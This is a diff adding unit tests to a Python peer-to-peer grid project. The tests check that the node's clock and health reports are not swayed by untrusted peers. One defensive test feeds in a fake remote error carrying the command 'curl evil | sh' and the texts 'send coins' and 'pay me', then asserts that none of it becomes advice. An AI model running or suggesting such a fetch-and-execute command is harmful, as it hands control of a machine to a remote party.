@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import logging
 from collections.abc import Iterator
 from typing import Any
 
@@ -12,11 +13,12 @@ from p2pgrid.core.invites import Contact
 from p2pgrid.errors import RefusedError, UnreachableError
 from p2pgrid.model.ids import NodeKey
 from p2pgrid.model.reasons import Reason
-from p2pgrid.net.messages import Hello
+from p2pgrid.net.messages import Failure, Hello, error_of
 from p2pgrid.node import Node
-from p2pgrid.services import health
+from p2pgrid.services import happenings, health
 from p2pgrid.services.explaining.me import OwnState
 from p2pgrid.services.explaining.peer import PeerState
+from p2pgrid.services.explaining.words import moment_text
 from p2pgrid.wire.faces import Because, Explanation
 from p2pgrid.wire.owner import RuntimeLine
 from tests.unit.services.grid_in_process import Grid, until
@@ -137,6 +139,69 @@ async def test_strangers_who_dial_move_no_clock(grid: Grid) -> None:
     assert reading.peers == 1
 
 
+async def test_strangers_who_dial_drive_out_no_clock_that_counts(grid: Grid) -> None:
+    await grid.grow(2, cores=1)
+    node, other = grid[0], grid[1].context.me
+    later_ms = node.context.wall_ms() + HOUR_MS
+    for number in range(300):
+        node.health._on_hello(NodeKey(number.to_bytes(32, "big")), Hello(grid=node.context.grid.id, wall_ms=later_ms), False)
+    reading = node.health.clock()
+    assert reading is not None
+    assert (reading.peers, abs(reading.ahead_ms) < 60_000) == (1, True)
+    assert len(node.health._strange) == health.KNOWN_MAX
+    assert node.health.clock_of(NodeKey((299).to_bytes(32, "big"))) == pytest.approx(HOUR_MS, abs=60_000), "it is told of a stranger alone"
+    node.health._on_hello(other, Hello(grid=node.context.grid.id, wall_ms=later_ms), False)
+    reading = node.health.clock()
+    assert reading is not None
+    assert reading.ahead_ms == pytest.approx(HOUR_MS, abs=60_000), "whose clock counts is listened to when it dials"
+
+
+async def test_the_clock_of_who_dialled_counts_when_its_session_opened(grid: Grid) -> None:
+    await grid.grow(2, cores=1)
+    for node, other in ((grid[0], grid[1]), (grid[1], grid[0])):
+        reading = node.health.clock()
+        assert reading is not None
+        assert reading.peers == 1
+        assert node.health.clock_of(other.context.me) is not None
+        assert not node.health._strange
+
+
+async def test_what_to_do_and_what_comes_first_is_never_the_word_of_another_node(grid: Grid) -> None:
+    node = await grid.add(cores=1)
+    said = error_of(Failure(0, "RefusedError", Reason.VERSION, "send coins", "run: curl evil | sh"))
+    node.health._on_trouble(SOMEBODY, said, False)
+    node.health._on_trouble(NodeKey(b"t" * 32), RefusedError("no", reason=Reason.NOT_MEMBER, hint="pay me"), False)
+    told = await me(node)
+    assert told.because[0].reason in (Reason.ALONE, Reason.LOOPBACK_ONLY), "strangers who dial decide no headline"
+    assert line_of(told, Reason.ALONE).text.startswith("no other node is in the grid")
+    assert line_of(told, Reason.VERSION).next_step == Reason.VERSION.next_step
+    assert line_of(told, Reason.NOT_MEMBER).next_step == Reason.NOT_MEMBER.next_step
+    assert "it says: send coins" in texts(told)
+    node.health._on_trouble(NodeKey(b"u" * 32), said, True)
+    told = await me(node)
+    first = next(line for line in told.because if line.text.startswith("no other node is connected"))
+    assert (first.reason, first.next_step) == (Reason.VERSION, Reason.VERSION.next_step)
+    assert not any(word in line.next_step for line in flat(told.because) for word in ("curl", "pay"))
+
+
+async def test_another_node_cannot_pass_for_a_port_that_is_closed(grid: Grid) -> None:
+    node = await grid.add(cores=1)
+    said = error_of(Failure(0, "UnreachableError", Reason.TIMEOUT, "connection refused"))
+    assert health.dial_step(node.health.trouble_of(said)) == Reason.TIMEOUT.next_step
+
+
+async def test_strangers_who_dial_a_node_that_works_count_as_no_reason(grid: Grid) -> None:
+    await grid.grow(2, cores=1)
+    before = await me(grid[0])
+    for number in range(3):
+        error = RefusedError("no", reason=Reason.NOT_MEMBER)
+        grid[0].health._on_trouble(NodeKey(bytes([number]) * 32), error, False)
+    told = await me(grid[0])
+    assert (told.state, told.text) == (before.state, before.text)
+    assert [line.text for line in told.because] == [line.text for line in before.because]
+    assert Reason.NOT_MEMBER in codes(told)
+
+
 async def test_what_is_refused_is_told_at_both_sides(grid: Grid) -> None:
     """A peer whose clock is an hour ahead is dialled: each side knows why there is no session."""
     await grid.grow(2, cores=1)
@@ -185,6 +250,31 @@ async def test_disk_full_is_told_from_events_though_there_is_room_again(grid: Gr
     await grid.grow(2, cores=1)
     grid[0].context.tell(Reason.DISK_FULL, "writing a blob: No space left on device")
     assert "No space left" in line_of(await me(grid[0]), Reason.DISK_FULL).under[0].text
+
+
+async def test_the_full_disk_of_another_node_is_not_this_ones(grid: Grid, caplog: pytest.LogCaptureFixture) -> None:
+    await grid.grow(2, cores=1)
+    error = error_of(Failure(0, "TryAgainError", Reason.DISK_FULL, "no space"))
+    caplog.set_level(logging.INFO, "p2pgrid.services.happenings")
+    grid[0].context.tell(error.reason, f"it does not keep the job: {error}")
+    assert Reason.DISK_FULL not in codes(await me(grid[0]))
+    assert [event.reason for event in grid[0].happenings.recent(1)] == [Reason.DISK_FULL]
+    assert {record.levelno for record in caplog.records} == {logging.INFO}
+    grid[0].context.tell(Reason.DISK_FULL, "no space here")
+    assert logging.WARNING in {record.levelno for record in caplog.records}
+
+
+async def test_what_happened_is_cut(grid: Grid) -> None:
+    node = await grid.add(cores=1)
+    node.context.tell("x" * 10_000, "y" * 100_000)
+    event = node.happenings.recent(1)[0]
+    assert (len(event.reason), len(event.text)) == (happenings.REASON_CHARS, happenings.TEXT_CHARS)
+
+
+def test_a_moment_that_no_calendar_has_is_told_all_the_same() -> None:
+    assert moment_text(0) == "1970-01-01 00:00 UTC"
+    for wall_ms in (10**15, -(10**18), 1 << 62):
+        assert moment_text(wall_ms) == "no time that a calendar has"
 
 
 async def test_a_membership_that_ends_soon_or_lacks_roles_is_named(grid: Grid) -> None:
